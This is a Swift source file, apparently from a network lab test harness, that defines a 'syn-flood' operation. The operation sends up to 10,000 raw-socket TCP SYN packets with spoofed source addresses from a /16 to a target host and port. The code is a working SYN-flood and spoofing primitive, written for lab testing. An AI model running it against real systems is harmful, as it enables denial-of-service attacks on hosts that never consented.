internal import Glibc
internal import WireFormat

/// Sends SYNs that nobody will complete.
package struct SYNFloodOperation: PeerOperation {
  package static let name = "syn-flood"
  package static let usage = "syn-flood HOST:PORT count N [from A.B.0.0]"
  package static let summary = """
    Sends N SYNs (at most 10000) through a raw socket, each from an address of its own in A.B.0.0/16 (10.9.0.0 unless \
    named) that nobody has; the result is how many. The lab's network ends them. The target answers only if it has a \
    route to those addresses.
    """

  let host: String
  let port: Int
  let count: Int
  let network: UInt32

  package init(_ words: inout WordReader) throws(PeerSyntaxError) {
    (host, port) = try words.target()
    guard words.skip("count") else { throw words.error("'syn-flood' needs 'count N' after its target") }
    count = try words.integer("a number of SYNs", in: 1...10_000)
    guard words.skip("from") else {
      network = 10 << 24 | 9 << 16
      return
    }
    let text = try words.require("a network")
    var address = in_addr()
    guard inet_pton(AF_INET, text, &address) == 1 else {
      throw words.error("'\(text)' is no network: write its address, for example 10.9.0.0")
    }
    network = UInt32(bigEndian: address.s_addr) & 0xFFFF_0000
  }

  package func run(in peer: Peer) {
    var hints = addrinfo()
    hints.ai_family = AF_INET
    hints.ai_socktype = Int32(SOCK_STREAM.rawValue)
    var found: UnsafeMutablePointer<addrinfo>?
    let code = getaddrinfo(host, nil, &hints, &found)
    defer { if let found { freeaddrinfo(found) } }
    peer.call(Self.name) {
      guard code == 0, let target = found?.pointee.ai_addr else {
        errno = EHOSTUNREACH
        return -1
      }
      let address = target.withMemoryRebound(to: sockaddr_in.self, capacity: 1) {
        UInt32(bigEndian: $0.pointee.sin_addr.s_addr)
      }
      // IPPROTO_RAW: the IP header is ours as well (raw(7)).
      let raw = socket(AF_INET, Int32(SOCK_RAW.rawValue) | Int32(SOCK_CLOEXEC.rawValue), Int32(IPPROTO_RAW))
      guard raw >= 0 else { return -1 }
      defer { Glibc.close(raw) }
      for number in 0..<count {
        let packet = syn(number, to: address)
        let sent = sendto(raw, packet, packet.count, 0, target, socklen_t(MemoryLayout<sockaddr_in>.size))
        guard sent == packet.count else { return -1 }
      }
      return count
    }
  }

  /// One SYN with its IP header. The addresses begin at A.B.0.1.
  private func syn(_ number: Int, to target: UInt32) -> [UInt8] {
    var builder = FrameBuilder()
    builder.source = IPAddress(ipv4: network + UInt32(number) + 1)
    builder.destination = IPAddress(ipv4: target)
    builder.sourcePort = UInt16(1024 + number % 60_000)
    builder.destinationPort = UInt16(port)
    builder.sequence = SequenceNumber(UInt32(number) &* 64_000)
    builder.flags = .syn
    builder.window = 65_535
    builder.options = [.maximumSegmentSize(1460)]
    // The identification, which is 0 here, becomes the kernel's (raw(7)).
    return builder.packet
  }
}
